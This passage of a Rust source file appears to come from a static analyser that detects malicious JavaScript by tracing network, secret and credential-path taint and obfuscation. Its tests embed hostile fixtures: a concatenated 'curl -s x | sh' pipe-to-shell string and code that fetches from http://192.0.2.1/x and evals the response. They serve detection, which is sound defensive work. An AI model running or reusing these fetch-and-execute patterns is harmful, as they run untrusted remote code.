                for c in self.children(i).take(16).collect::<Vec<_>>() {
                    if let Some(m) = self.subtree_marker(c, f, depth + 1) {
                        return Some(m);
                    }
                }
                None
            }
            _ => None,
        }
    }

    fn propagate(&mut self, flows: &[(u32, u32)]) {
        let own = self.own_labels();
        let n = self.nodes.len();
        // Callback parameters take the labels of the call they are passed to:
        // `https.get(u, res => …)`, `res.on('data', d => …)`.
        let mut cb: Vec<(u32, u32)> = Vec::new();
        for c in &self.calls {
            for &a in &c.args {
                if matches!(self.kind(a), "arrow_function" | "function_expression") {
                    let mut params = Vec::new();
                    let p = self.field(a, "parameter");
                    if p != NONE {
                        params.push(p);
                    }
                    let ps = self.field(a, "parameters");
                    for x in self.children(ps) {
                        self.pattern_idents(x, &mut params, 0);
                    }
                    for p in params {
                        let d = self.ident_decl.get(p as usize).copied().unwrap_or(NONE);
                        if d != NONE {
                            cb.push((d, c.node));
                        }
                    }
                }
            }
        }
        // Reads whose path carries a credential-path label yield secrets,
        // however the path was built.
        let mut reads = vec![false; n];
        for c in &self.calls {
            if c.path.as_deref().is_some_and(api::is_fs_read) {
                reads[c.node as usize] = true;
            }
        }
        let mut labels = vec![0u32; n];
        for _ in 0..MAX_ROUNDS {
            for i in 0..n {
                let d = self.ident_decl[i];
                labels[i] = own[i]
                    | if d == NONE {
                        0
                    } else {
                        self.decls[d as usize].labels
                    };
            }
            for i in (1..n).rev() {
                if reads[i] && labels[i] & label::SECPATH != 0 {
                    labels[i] |= label::SECRET;
                }
                if is_boundary(self.nodes[i].kind) {
                    continue;
                }
                let p = self.nodes[i].parent as usize;
                labels[p] |= labels[i];
            }
            let mut changed = false;
            for &(d, v) in flows.iter().chain(cb.iter()) {
                let Some(&l) = labels.get(v as usize) else {
                    continue;
                };
                let decl = &mut self.decls[d as usize];
                if decl.labels | l != decl.labels {
                    decl.labels |= l;
                    changed = true;
                }
            }
            if !changed {
                break;
            }
        }
        self.labels = labels;
    }
}

/// Lower-case, `/`-separated, without repeated separators: `C:\\Users\\x`
/// (as written in source, escapes and all) becomes `c:/users/x`.
#[must_use]
pub fn normalize_path(s: &str) -> String {
    let mut out = String::with_capacity(s.len().min(8192));
    let mut last_slash = false;
    for c in s.chars().take(8192) {
        let c = if c == '\\' {
            '/'
        } else {
            c.to_ascii_lowercase()
        };
        if c == '/' && last_slash {
            continue;
        }
        last_slash = c == '/';
        out.push(c);
    }
    out
}

/// `_0x1f2a`-style names left by obfuscator.io.
fn is_hex_ident(name: &str) -> bool {
    name.strip_prefix("_0x")
        .is_some_and(|h| h.len() >= 4 && h.len() <= 8 && h.bytes().all(|b| b.is_ascii_hexdigit()))
}

/// A binding worth keeping: rooted in a module or a global the rules know.
fn worth_binding(p: &str) -> bool {
    let root = p.split('.').next().unwrap_or(p);
    api::known_root(root)
}

/// `node:fs` → `fs`, `fs/promises` → `fs.promises`.
#[must_use]
pub fn normalize_module(m: &str) -> String {
    let m = m.strip_prefix("node:").unwrap_or(m);
    match m {
        "fs/promises" => "fs.promises".into(),
        "dns/promises" => "dns.promises".into(),
        "stream/promises" => "stream.promises".into(),
        _ => m.to_owned(),
    }
}

fn strip_quotes(t: &str) -> &str {
    let b = t.as_bytes();
    if b.len() >= 2 && matches!(b[0], b'"' | b'\'' | b'`') && b[b.len() - 1] == b[0] {
        &t[1..t.len() - 1]
    } else {
        t
    }
}

fn unquote_simple(t: &str) -> &str {
    strip_quotes(t)
}

/// Undo the common JavaScript string escapes.
#[must_use]
pub fn unescape_js(s: &str) -> String {
    if !s.contains('\\') {
        return s.to_owned();
    }
    let mut out = String::with_capacity(s.len());
    let mut it = s.chars().peekable();
    while let Some(c) = it.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match it.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => out.push('\r'),
            Some('0') => out.push('\0'),
            Some('x') => {
                let h: String = it.by_ref().take(2).collect();
                match u32::from_str_radix(&h, 16).ok().and_then(char::from_u32) {
                    Some(ch) => out.push(ch),
                    None => out.push_str(&h),
                }
            }
            Some('u') => {
                let h: String = if it.peek() == Some(&'{') {
                    it.next();
                    it.by_ref().take_while(|&c| c != '}').take(8).collect()
                } else {
                    it.by_ref().take(4).collect()
                };
                match u32::from_str_radix(&h, 16).ok().and_then(char::from_u32) {
                    Some(ch) => out.push(ch),
                    None => out.push_str(&h),
                }
            }
            Some('\n') => {}
            Some(o) => out.push(o),
            None => {}
        }
    }
    out
}

/// Flatten a tree into a pre-order arena without recursion (deeply nested
/// input must not overflow the stack).
#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn resolves_aliases() {
        let src = r#"
const cp = require('node:child_process');
const { exec: run, spawn } = require('child_process');
import * as os from 'os';
import { request as req } from 'https';
const e = cp.execSync;
cp.exec('x'); run('y'); spawn('z'); os.hostname(); req({}); e('w');
(0, cp.exec)('v');
function f(cp) { cp.exec('not a child process'); }
"#;
        let f = Facts::build(src).unwrap();
        let paths: Vec<String> = f.calls.iter().filter_map(|c| c.path.clone()).collect();
        for want in [
            "child_process.exec",
            "child_process.spawn",
            "os.hostname",
            "https.request",
            "child_process.execSync",
        ] {
            assert!(paths.iter().any(|p| p == want), "{want} in {paths:?}");
        }
        let n_exec = paths.iter().filter(|p| *p == "child_process.exec").count();
        assert_eq!(n_exec, 3, "{paths:?}"); // cp.exec, run, (0, cp.exec); not the shadowed one
    }

    #[test]
    fn constant_strings() {
        let src =
            "const a = 'cu' + 'rl'; const b = `${a} -s x | sh`; const c = ['r','m'].join('');";
        let f = Facts::build(src).unwrap();
        let b = f.decls.iter().find(|d| d.name == "b").unwrap();
        assert_eq!(f.const_string(b.init, 0).unwrap(), "curl -s x | sh");
        let c = f.decls.iter().find(|d| d.name == "c").unwrap();
        assert_eq!(f.const_string(c.init, 0).unwrap(), "rm");
    }

    #[test]
    fn labels_flow_through_callbacks() {
        let src = r"
const https = require('https');
https.get('http://192.0.2.1/x', res => { let b=''; res.on('data', d => b += d); res.on('end', () => eval(b)); });
";
        let f = Facts::build(src).unwrap();
        let ev = f
            .calls
            .iter()
            .find(|c| c.path.as_deref() == Some("eval"))
            .unwrap();
        assert!(f.arg_labels(ev) & label::NET != 0);
    }

    #[test]
    fn deep_nesting_does_not_overflow() {
        let src = format!("x = {}1{};", "(".repeat(20000), ")".repeat(20000));
        let _ = Facts::build(&src);
        let src = format!("x = {}1{};", "[".repeat(20000), "]".repeat(20000));
        let _ = Facts::build(&src);
    }
}
